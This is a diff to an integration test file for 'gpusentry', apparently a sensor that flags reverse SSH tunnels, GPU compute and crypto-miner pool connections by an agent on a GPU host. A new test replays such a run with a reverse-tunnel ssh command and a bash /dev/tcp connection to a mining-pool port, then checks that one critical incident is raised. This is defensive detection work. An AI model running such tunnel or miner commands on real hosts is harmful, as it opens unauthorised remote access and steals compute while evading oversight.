@@ -9,6 +9,7 @@ ssh -L, scp, and a training job's GPU compute outside any tunnel scope stay sile
 
 from __future__ import annotations
 
+import contextlib
 import json
 import os
 import pwd
@@ -16,6 +17,7 @@ import shutil
 import subprocess
 import sys
 import tempfile
+import threading
 from collections.abc import Iterable, Iterator
 from pathlib import Path
 from typing import Any
@@ -107,15 +109,24 @@ def analyze(capture: Path, *flags: str, prefix: tuple[str, ...] = ()) -> str:
 
 
 def alert_key(alert: dict[str, Any]) -> tuple[Any, ...]:
-    """What makes two alerts the same: rule, scope, and each step's fact, time and process."""
+    """What makes two alerts the same (an alert as the outward JSON has it): rule, scope, and
+    each step's fact, kernel time and process."""
     return (alert["rule_id"], alert["severity"], alert["scope"], alert["scope_key"],
-            tuple((s["fact"], s["ts"], s["exec_id"]) for s in alert["steps"]))
+            tuple((s["fact"], s["detail"]["ts"], s["exec_id"]) for s in alert["steps"]))
+
+
+def outward(alert: Alert) -> dict[str, Any]:
+    """A live alert as analyze --json prints it."""
+    from sensor.api.convert import Clock
+    from sensor.api.convert import alert as convert_alert
+    from sensor.outward import as_dict
+
+    return as_dict(convert_alert(alert, Clock(0)))
 
 
 def analysed_alerts(capture: Path, prefix: tuple[str, ...] = ()) -> list[tuple[Any, ...]]:
-    lines = [json.loads(line) for line in analyze(capture, "--json", prefix=prefix).splitlines()
-             if line.startswith("{")]
-    return [alert_key(line) for line in lines if line["kind"] == "alert"]
+    lines = [json.loads(line) for line in analyze(capture, "--json", prefix=prefix).splitlines()]
+    return [alert_key(line["alert"]) for line in lines if line["type"] == "alert"]
 
 
 def unprivileged_copy(capture: Path) -> Path:
@@ -191,17 +202,17 @@ def test_analysis_gives_the_live_alerts_wherever_it_runs(hopper: Path, network: 
     wait_until(lambda: recorder.alerts("reverse-tunnel-then-gpu-compute"), what="the critical alert")
     recorder.stop()
     network.close()  # the namespace, its routes and its processes are gone
-    live = [alert_key(a.to_dict()) for a in recorder.alerts()]
+    live = [alert_key(outward(a)) for a in recorder.alerts()]
     assert {key[0] for key in live} >= {"reverse-tunnel-opened", "reverse-tunnel-then-gpu-compute"}
 
     assert analysed_alerts(recorder.capture) == live
     copy = unprivileged_copy(recorder.capture)
     assert analysed_alerts(copy, AS_AGENT_USER) == live
     assert analysed_alerts(copy, ("unshare", "--net", *AS_AGENT_USER)) == live
-    events = [json.loads(line) for line in analyze(copy, "--json", "--events",
-                                                   prefix=("unshare", "--net", *AS_AGENT_USER)).splitlines()
-              if line.startswith("{")]
-    verdicts = {(f["address"], f["destination"]) for e in events for f in e.get("facts", []) if f["kind"] == "connect"}
+    records = [json.loads(line) for line in analyze(copy, "--json", "--output", "events",
+                                                    prefix=("unshare", "--net", *AS_AGENT_USER)).splitlines()]
+    verdicts = {(r["fact"]["connect"]["address"], r["fact"]["connect"]["destination"]) for r in records
+                if r["type"] == "fact" and r["fact"]["kind"] == "FACT_KIND_CONNECT"}
     assert {("203.0.113.2", "lan"), (OUTSIDE_IP, "egress")} <= verdicts
 
 
@@ -258,3 +269,119 @@ def test_local_forward_scp_and_training_compute_stay_silent(hopper: Path, ampere
                and b"sftp" in e.argv]
     assert scp_ssh != []
     assert all(t.process.pid != e.tgid for t in recorder.facts(TunnelFact) for e in scp_ssh)
+
+
+# -- the whole ROME run, as an operator sees it: one incident ---------------------------------
+
+ROME_RULES = {"reverse-tunnel-opened", "reverse-tunnel-then-gpu-compute", "miner-pool-connection",
+              "reverse-tunnel-then-miner-egress", "gpu-compute-then-miner-egress"}
+
+
+class ViewedAgent:
+    """`gpusentry run` with its live view in a tmux pane, started as an operator starts it."""
+
+    def __init__(self) -> None:
+        from tests.kernel.test_agent import workdir
+
+        self.tmp = workdir()
+        self.sock = self.tmp / "api.sock"
+        self.session = f"gs-view-{os.getpid()}"
+        command = (f"cd {ROOT} && exec {PYTHON} -m sensor run --view --socket {self.sock} "
+                   f"--journal {self.tmp}/journal.db 2>{self.tmp}/stderr")
+        subprocess.run(["tmux", "new-session", "-d", "-s", self.session, "-x", "220", "-y", "60", command],
+                       check=True)
+
+    def screen(self) -> str:
+        shown = subprocess.run(["tmux", "capture-pane", "-p", "-t", self.session], capture_output=True, text=True)
+        return shown.stdout
+
+    def gpusentry(self, *argv: str) -> subprocess.CompletedProcess[str]:
+        return subprocess.run([PYTHON, "-m", "sensor", *argv, "--socket", str(self.sock)], capture_output=True,
+                              text=True, cwd=ROOT, timeout=60)
+
+    def stop(self) -> None:
+        subprocess.run(["tmux", "send-keys", "-t", self.session, "C-c"], capture_output=True)
+        wait_until(lambda: subprocess.run(["tmux", "has-session", "-t", self.session],
+                                          capture_output=True).returncode != 0, timeout=30, what="the agent to stop")
+
+
+@pytest.fixture
+def viewed_agent(root: None) -> Iterator[ViewedAgent]:
+    agent = ViewedAgent()
+    try:
+        wait_until(lambda: "incidents" in agent.screen() and "events" in agent.screen(), timeout=60,
+                   what=f"the live view (agent stderr: {agent.tmp}/stderr)")
+        yield agent
+    finally:
+        agent.stop()
+        subprocess.run(["tmux", "kill-session", "-t", agent.session], capture_output=True)
+
+
+def test_one_rome_run_is_one_incident_in_the_view_the_cli_and_the_api(hopper: Path, network: Network,
+                                                                      viewed_agent: ViewedAgent) -> None:
+    import grpc
+
+    from sensor.api.client import sensor_stub
+    from sensor.api.v1 import gpusentry_pb2 as pb
+
+    channel = grpc.insecure_channel(f"unix:{viewed_agent.sock}")
+    stream = sensor_stub(channel).Subscribe(pb.SubscribeRequest(alerts=True, incidents=True))
+    received: list[pb.SubscribeResponse] = []
+
+    def read() -> None:
+        with contextlib.suppress(grpc.RpcError):
+            for response in stream:
+                received.append(response)
+
+    threading.Thread(target=read, daemon=True).start()
+    wait_until(lambda: any(r.WhichOneof("item") == "subscribed" for r in received), what="the subscription")
+
+    # the agent (a shell on gpuhost): a reverse tunnel out, GPU compute, a miner's pool connection
+    ssh = " ".join([SSH, *network.ssh_options, "-fNR", "9000:localhost:22", f"root@{OUTSIDE_IP}"])
+    pool = f"bash -c 'exec 3<>/dev/tcp/{OUTSIDE_IP}/3333' 2>/dev/null; true"
+    rome = f"cd {ROOT} && {ssh} && {replay_command(hopper, 'hopper-bringup.yaml')} && {pool}"
+    done = network.gpuhost.run("sh", "-c", rome)
+    assert done.returncode == 0, done.stderr
+
+    def whole() -> list[pb.Incident]:
+        return [r.incident for r in list(received) if r.WhichOneof("item") == "incident"
+                and set(r.incident.rule_ids) >= ROME_RULES]
+
+    incident = wait_until(whole, timeout=30, what="the incident with the five alerts")[-1]
+    alerts = [r.alert for r in list(received) if r.WhichOneof("item") == "alert" and r.alert.rule_id in ROME_RULES]
+    # the API stream: five alerts, one incident, and every alert says which
+    assert sorted(a.rule_id for a in alerts) == sorted(ROME_RULES)
+    assert {a.incident_id for a in alerts} == {incident.id}
+    assert (incident.alerts_total, incident.severity) == (5, pb.SEVERITY_CRITICAL)
+    assert sorted(a.id for a in incident.alerts) == sorted(a.id for a in alerts)
+    assert [t.tunnel.remote_host for t in incident.tunnels] == [OUTSIDE_IP]
+    assert [g.gpu_compute.architecture for g in incident.gpu_compute] == ["Hopper"]
+    assert f"{OUTSIDE_IP}:3333" in incident.summary and "ssh -R" in incident.summary
+
+    # the CLI: the same incident, one JSON object per line, valid against the published schema, and jq reads it
+    listed = viewed_agent.gpusentry("incidents", "-o", "json")
+    assert listed.returncode == 0, listed.stderr
+    records = [json.loads(line) for line in listed.stdout.splitlines()]
+    ours = [r for r in records if r["incident"]["id"] == incident.id]
+    assert len(ours) == 1 and ours[0]["type"] == "incident"
+    assert ours[0]["incident"]["alerts_total"] == "5"  # proto3 JSON: 64-bit integers are strings
+    assert set(ours[0]["incident"]["rule_ids"]) == ROME_RULES
+    from tests.unit.test_schema import schema_validator
+
+    published = schema_validator()
+    for record in records:
+        published.validate(record)
+    jq = subprocess.run(["jq", "-r", "select(.incident.id == \"" + incident.id + "\") | .incident.rule_ids[]"],
+                        input=listed.stdout, capture_output=True, text=True, check=True)
+    assert set(jq.stdout.split()) == ROME_RULES
+
+    # the live view: the incident, first on the screen, with its five alerts
+    row = wait_until(lambda: [line for line in viewed_agent.screen().splitlines() if incident.id[:8] in line],
+                     timeout=15, what="the incident in the live view")[0]
+    assert "CRITICAL" in row and f"{incident.id[:8]}  5 alerts: reverse-tunnel-opened" in row
+    screen = viewed_agent.screen()
+    lines = screen.splitlines()
+    panels = [n for n, line in enumerate(lines) if line.startswith("╭") and " alerts " in line]
+    assert panels, screen
+    assert next(n for n, line in enumerate(lines) if incident.id[:8] in line) < panels[0], screen
+    channel.close()
